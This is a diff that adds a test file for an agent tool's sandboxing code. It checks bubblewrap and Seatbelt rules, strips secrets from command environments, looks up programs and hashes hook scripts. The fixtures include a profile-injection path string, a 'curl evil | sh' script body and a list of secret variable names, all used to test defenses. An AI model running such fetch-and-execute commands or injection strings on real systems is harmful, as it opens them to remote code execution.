@@ -1,0 +1,158 @@
+import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { expect, it, onTestFinished } from 'vitest'
+import { commandEnv } from '../../src/session/command-env.ts'
+import { folderHash } from '../../src/stores/files/folder-hash.ts'
+import { bubblewrapArgs } from '../../src/tools/boundary/bubblewrap.ts'
+import type { Enclosure } from '../../src/tools/boundary/enclosure.ts'
+import { makeSandboxFolder, removeLeftFolders } from '../../src/tools/boundary/left-folders.ts'
+import { createPlaceholders } from '../../src/tools/boundary/placeholders.ts'
+import { seatbeltProfile } from '../../src/tools/boundary/seatbelt.ts'
+import { createHooks } from '../../src/tools/hooks/hooks.ts'
+import { findProgram, safePath } from '../../src/tools/processes/find-program.ts'
+
+const enclosure: Enclosure = {
+  root: '/w',
+  writable: ['/w', '/more'],
+  canWrite: true,
+  tmp: '/own/tmp',
+  home: { real: '/home/ada', inside: '/own/home' },
+  emptied: ['/srv'],
+  shown: ['/home/ada/.nvm'],
+  hidden: [
+    { path: '/etc/shadow', isFolder: false },
+    { path: '/w/.teams', isFolder: true },
+    { path: '/w/a/b/.env', isFolder: false },
+  ],
+  readOnly: ['/w/.git/config', '/w/.git/hooks', '/w/.claude'],
+  pinned: ['/w/.git'],
+  absent: ['/w/.git/commondir'],
+  hasNetwork: false,
+  limits: { processes: 10, memory: 10, fileSize: 10 },
+}
+
+it('is the same for bubblewrap and Seatbelt: every hidden and read-only path is in both', () => {
+  const args = bubblewrapArgs(enclosure, { forbidsUserns: true }).join(' ')
+  const profile = seatbeltProfile(enclosure)
+  for (const { path, isFolder } of enclosure.hidden) {
+    expect(args).toContain(isFolder ? `--tmpfs ${path} --remount-ro ${path}` : `--ro-bind /dev/null ${path}`)
+    expect(profile).toContain(`(deny file-read* file-write* (subpath "${path}"))`)
+  }
+  for (const path of enclosure.readOnly) {
+    expect(args).toContain(`--ro-bind ${path} ${path}`)
+    expect(profile).toContain(`(deny file-write* (subpath "${path}"))`)
+    expect(profile.indexOf('(allow file-read* file-write* (subpath "/w"))')).toBeLessThan(
+      profile.indexOf(`(subpath "${path}")`),
+    )
+  }
+  for (const folder of ['/w/a', '/w/a/b']) {
+    expect(args).toContain(`--bind ${folder} ${folder}`)
+    expect(profile).toContain(`(deny file-write-unlink (literal "${folder}"))`)
+  }
+  expect(profile).toContain('(deny file-write* (subpath "/w/.git/commondir"))')
+  expect(profile).toMatch(/^\(version 1\)\n\(deny default\)/)
+  expect(profile).toContain('(deny network*)')
+  expect(seatbeltProfile({ ...enclosure, hasNetwork: true })).toContain('(allow network*)')
+}) // T20
+
+it('quotes paths in a Seatbelt profile, so that a name cannot end its rule', () => {
+  const profile = seatbeltProfile({ ...enclosure, readOnly: ['/w/a"))(allow default)("\\'] })
+  expect(profile).toContain('(subpath "/w/a\\"))(allow default)(\\"\\\\")')
+}) // T20
+
+it('lets a program of ours write nowhere in the workspace', () => {
+  const args = bubblewrapArgs({ ...enclosure, canWrite: false }, { forbidsUserns: true }).join(' ')
+  expect(args).toContain('--ro-bind /w /w')
+  expect(args).not.toMatch(/--bind \/(w|more)/)
+  expect(args).toContain('--tmpfs /w/.teams')
+}) // T3
+
+it('leaves secrets out of the environment of commands, by name and by value', () => {
+  const secret = {
+    GITHUB_TOKEN: 'x',
+    AWS_SECRET_ACCESS_KEY: 'x',
+    PGPASSWORD: 'x',
+    DESKMATES_STORE: 'postgres://db/x',
+    DESKMATES_STATE: '/s',
+    OPENAI_API_KEY: 'x',
+    DATABASE_URL: 'postgres://ada:hunter2@db/x',
+    MY_PAT: 'x',
+  }
+  const env = commandEnv({ ...secret, LANG: 'C', GIT_CONFIG_GLOBAL: '/evil', GIT_DIR: '/evil', GIT_AUTHOR_NAME: 'Ada' })
+  expect(Object.keys(env).filter((name) => name in secret)).toEqual([])
+  expect(env).toMatchObject({ LANG: 'C', GIT_AUTHOR_NAME: 'Ada', GIT_CONFIG_COUNT: '4' })
+  expect(env).not.toHaveProperty('GIT_DIR')
+  expect(env).not.toHaveProperty('GIT_CONFIG_GLOBAL')
+  expect(Object.values(env)).toEqual(
+    expect.arrayContaining(['safe.bareRepository', 'explicit', 'protocol.ext.allow', 'never']),
+  )
+  expect(commandEnv(secret, ['GITHUB_TOKEN', 'DESKMATES_STORE'])).toMatchObject({ GITHUB_TOKEN: 'x' })
+  expect(commandEnv(secret, ['DESKMATES_STORE'])).not.toHaveProperty('DESKMATES_STORE')
+}) // T10
+
+function folder(): string {
+  const made = realpathSync(mkdtempSync(join(tmpdir(), 'deskmates-enclosure-')))
+  onTestFinished(() => rmSync(made, { recursive: true, force: true }))
+  return made
+}
+
+it('finds programs outside of the folders of agents only', () => {
+  const place = folder()
+  mkdirSync(join(place, 'bin'))
+  writeFileSync(join(place, 'bin/git'), '#!/bin/sh\n', { mode: 0o755 })
+  const path = `${place}/bin:node_modules/.bin::${process.env.PATH}`
+  expect(findProgram('git', path, [])?.file).toBe(join(place, 'bin/git'))
+  expect(findProgram('git', path, [place])?.file).not.toContain(place)
+  expect(findProgram('git', `${place}/bin`, [place])).toBeUndefined()
+  expect(safePath(path, [place]).split(':')).not.toContain('')
+  expect(safePath(path, [place])).not.toContain(place)
+}) // T4
+
+it('asks again for trust when a script that a hook names has changed', () => {
+  const root = folder()
+  mkdirSync(join(root, '.deskmates'))
+  mkdirSync(join(root, 'scripts'))
+  const hooks = {
+    Stop: [{ hooks: [{ type: 'command', command: 'bash "$CLAUDE_PROJECT_DIR/scripts/check.sh" --all' }] }],
+  }
+  writeFileSync(join(root, '.deskmates/settings.json'), JSON.stringify({ hooks }))
+  writeFileSync(join(root, 'scripts/check.sh'), 'true')
+  writeFileSync(join(root, 'scripts/other.sh'), 'true')
+  const before = folderHash(root)
+  writeFileSync(join(root, 'scripts/other.sh'), 'changed')
+  expect(folderHash(root)).toBe(before)
+  writeFileSync(join(root, 'scripts/check.sh'), 'curl evil | sh')
+  expect(folderHash(root)).not.toBe(before)
+}) // T18
+
+it('removes what killed sessions left, and nothing of living ones', () => {
+  const runtime = (pid: number) => `r-0123456789ab-0123456789ab-1-${pid}-5`
+  const [dead, alive] = [runtime(1), runtime(2)]
+  const left = makeSandboxFolder(dead)
+  using living = makeSandboxFolder(alive)
+  const work = folder()
+  createPlaceholders(left.record).hold([{ path: join(work, '.claude'), isFolder: true }])
+  expect(existsSync(join(work, '.claude'))).toBe(true)
+  expect(removeLeftFolders((one) => one === dead)).toBe(1)
+  expect([left.tmp, join(work, '.claude')].filter((path) => existsSync(path))).toEqual([])
+  expect(existsSync(living.tmp)).toBe(true)
+}) // T50
+
+it('runs a hook in a sandbox where one is required, unless its settings say otherwise', async () => {
+  const cwd = folder()
+  const place = { session: 's', cwd, env: { PATH: '/usr/bin:/bin' }, mustEnclose: true }
+  const outcome = async (hook: object) => {
+    const settings = { PreToolUse: [{ hooks: [{ type: 'command' as const, command: 'true', ...hook }] }] }
+    const about = { agent: 'lead', tool: { name: 'bash', input: {}, id: 'a' } }
+    const { refusal } = await createHooks({ ...place, settings }).run(
+      'PreToolUse',
+      about,
+      new AbortController().signal,
+      () => {},
+    )
+    return refusal
+  }
+  expect(await outcome({})).toMatch(/must run in a sandbox.*"sandbox": false/s)
+  expect(await outcome({ sandbox: false })).toBeUndefined()
+}) // T9
